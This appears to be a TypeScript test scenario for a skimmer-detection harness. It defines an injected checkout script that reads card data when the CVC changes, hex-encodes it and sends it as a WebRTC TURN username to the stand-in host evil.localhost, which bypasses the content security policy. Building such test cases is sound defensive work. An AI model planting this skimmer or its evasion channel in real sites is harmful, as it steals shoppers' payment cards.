import { holds, js, skimmer } from '../behaviour.ts';
import { hex } from '../site/arrivals.ts';
import { withCard } from '../snippets.ts';

export default skimmer({
  id: 'webrtc-turn-user',
  why: 'The card is the user name for a TURN server: WebRTC stands outside the content security policy and outside most request logs.',
  covers: ['sending: WebRTC', 'hard: unusual channel'],
  base: 'direct',
  lingers: 1_000,
  install: (site) =>
    site.inline(
      withCard(js`
  document.getElementsByName('card_cvc')[0].addEventListener('change', function () {
    var name = Array.from(card()).map(function (c) { return ('0' + (c.charCodeAt(0) & 255).toString(16)).slice(-2); }).join('');
    window._pc = new RTCPeerConnection({ iceServers: [{ urls: 'turn:evil.localhost:${String(site.ear)}?transport=tcp', username: name, credential: 'x' }] });
    _pc.createDataChannel('d');
    _pc.createOffer().then(function (offer) { return _pc.setLocalDescription(offer); });
  });`),
    ),
  proof: holds((arrived) => arrived.names.map((name) => hex(name).toString('latin1'))),
});
